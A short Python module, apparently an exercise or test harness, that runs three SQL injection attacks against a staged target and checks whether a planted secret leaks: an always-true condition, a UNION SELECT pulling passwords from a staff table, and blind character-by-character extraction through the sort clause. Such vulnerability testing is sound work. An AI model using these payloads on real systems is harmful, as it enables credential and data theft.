"""Attacks on SQL text that is handed to a toolkit."""

from prover import Target

from .stage import Stage


def attack_always_true(target: Target, stage: Stage) -> bool:
    """Close the text and add a condition that always holds."""
    found = target.orders_of(stage.db, "' OR '1' = '1", "item")
    print(found)
    return stage.secret in found


def attack_union(target: Target, stage: Stage) -> bool:
    """Append a second query and comment out the rest."""
    name = "' UNION SELECT password FROM staff --"
    found = target.orders_of(stage.db, name, "item")
    print(found)
    return stage.secret in found


def attack_sort_by_a_question(target: Target, stage: Stage) -> bool:
    """Let the sort order answer questions about another table."""
    found = ""
    for position in range(1, len(stage.secret) + 1):
        for character in "0123456789abcdefghijklmnopqrstuvwxyz-":
            guess = f"unicode(substr(password, {position})) = {ord(character)}"
            sort = f"CASE (SELECT {guess} FROM staff) WHEN 1 THEN total ELSE -total END"
            if target.orders_of(stage.db, "ana", sort)[0] == "tea":
                found += character
                break
    print(found)
    return found == stage.secret
